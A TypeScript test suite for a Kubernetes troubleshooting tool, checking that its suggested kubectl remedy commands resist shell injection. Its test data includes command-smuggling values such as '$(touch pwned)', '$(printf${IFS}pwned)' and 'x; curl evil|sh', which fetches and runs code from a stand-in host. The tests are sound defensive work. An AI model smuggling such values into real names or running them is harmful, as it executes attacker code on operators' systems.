import { execFileSync } from 'node:child_process'
import { analyse } from '../analyse/analyse.ts'
import { renewal } from '../remedy/certificate.ts'
import { aLook, aView } from '../testing/a-look.ts'
import { anEvent, manifests } from '../testing/objects.ts'
import { pasteable } from './pasteable.ts'

const pod = (configMap: string) => `
apiVersion: v1
kind: Pod
metadata: { name: web, namespace: shop }
spec: { containers: [{ name: app, image: web, env: [{ name: A, valueFrom: { configMapKeyRef: { name: '${configMap}', key: a } } }] }] }
status: { phase: Pending, containerStatuses: [{ name: app, restartCount: 0, state: { waiting: { reason: CreateContainerConfigError, message: 'configmap "${configMap}" not found' } } }] }
`
const commandsFor = (configMap: string) =>
  analyse(aLook(pod(configMap)))
    .filter(({ rule }) => rule === 'pod-config-error')
    .flatMap(({ remedies }) => remedies.map(({ command }) => command))

test('a command names what is missing', () => {
  expect(commandsFor('settings')).toContain('kubectl create configmap settings -n shop --from-literal=<key>=<value>')
})

test.each(['x; touch pwned', '$(touch pwned)', 'x`touch pwned`', 'x|y', "x' y"])(
  'a name such as %s, which a pod may refer to, is in no command',
  (name) => {
    expect(commandsFor(name.replace("'", "''")).filter((command) => command?.includes(name))).toEqual([])
  },
)

test('no command that mends a missing object has more than a name in it', () => {
  const [finding] = analyse(aLook(pod('x; touch pwned'))).filter(({ rule }) => rule === 'pod-config-error')
  expect(finding!.blames[0]!.remedies!.map(({ command }) => command)).toEqual([null])
})

/** What a shell does with a command whose programs only show which words they were given. */
const wordsOf = (command: string): readonly string[] =>
  execFileSync('sh', ['-c', `kubectl() { printf '%s\\n' "$@"; }; ${command}`], { stdio: ['ignore', 'pipe', 'ignore'] })
    .toString()
    .trimEnd()
    .split('\n')

test.each(['$(printf${IFS}pwned)', '`printf${IFS}pwned`', 'cpu;printf${IFS}pwned', 'cpu&&printf${IFS}pwned'])(
  'the words of an event that tells of resource %s are in no command',
  (resource) => {
    const message = `Error creating: pods "web-5d-x" is forbidden: maximum ${resource} usage per Container is 1, but limit is 2`
    const owner = { ownerReferences: [{ kind: 'Deployment', name: 'web', uid: 'Deployment-web', controller: true }] }
    const template = { spec: { containers: [{ name: 'app', image: 'web' }] } }
    const found = analyse(
      aLook(
        manifests(
          { kind: 'Deployment', metadata: { name: 'web' }, spec: { replicas: 2, template } },
          { kind: 'ReplicaSet', metadata: { name: 'web-5d', ...owner }, spec: { replicas: 2, template } },
          anEvent('FailedCreate', message, { kind: 'ReplicaSet', name: 'web-5d', count: 12 }),
        ),
      ),
    )
    const refused = found.find(({ rule }) => rule === 'workload-create-refused')
    expect(refused!.remedies.length).toBeGreaterThan(0)
    expect(refused!.remedies.filter(({ command, undo }) => `${command} ${undo}`.includes('printf'))).toEqual([])
  },
)

test('an annotation that tells of a Certificate is one word of a command', () => {
  const name = 'x; curl evil|sh'
  const view = aView(
    `apiVersion: v1\nkind: Secret\nmetadata: { name: tls, namespace: shop, annotations: { cert-manager.io/certificate-name: '${name}' } }`,
  )
  const secret = view.get('Secret', 'shop', 'tls')!
  const [remedy] = renewal(secret, secret)
  expect(wordsOf(remedy!.command!)).toEqual(['describe', '-n', 'shop', `certificate/${name}`])
})

const told = (command: string, undo: string | null = null) =>
  pasteable([], [{ title: 'x', command, changes: 'y', undo, isDestructive: false }])[0]!.command

test.each(['$(x)', '`x`', ';x', '|x', '&& x', '>x', '"x"', '\nx', '*', '~/x', "'x"])(
  'whoever makes it, a command with %j in it is not proposed',
  (part) => {
    expect(told(`kubectl describe pod/a ${part}`)).toBeNull()
    expect(told('kubectl describe pod/a', `kubectl delete pod/a ${part}`)).toBeNull()
  },
)

test.each([
  `kubectl patch pod/a -p '{"a":"$(x)"}'`,
  `kubectl set env pod/a 'A=it'\\''s; x'`,
  'kubectl create role a --verb=list && kubectl create rolebinding a --role=a',
  'kubectl create secret tls a --dry-run=client -o yaml | kubectl apply -f -',
  'kubectl set env deployment/a A=<value>',
])('a command such as %s is', (command) => {
  expect(told(command, 'put it back; `kubectl get -o yaml` first keeps it')).toBe(command)
})

test.each(['--all', 'a b'])('a name such as %s is in no command, nor is a kind', (text) => {
  const remedy = { title: 'x', command: 'kubectl get pods', changes: 'nothing', undo: null, isDestructive: false }
  const pod = { kind: 'Pod', namespace: 'shop', name: 'web' }
  expect(pasteable([pod], [remedy])).toEqual([remedy])
  expect(pasteable([{ ...pod, name: text }], [remedy])).toMatchObject([{ command: null }])
  expect(pasteable([{ ...pod, kind: text }], [remedy])).toMatchObject([{ command: null }])
})
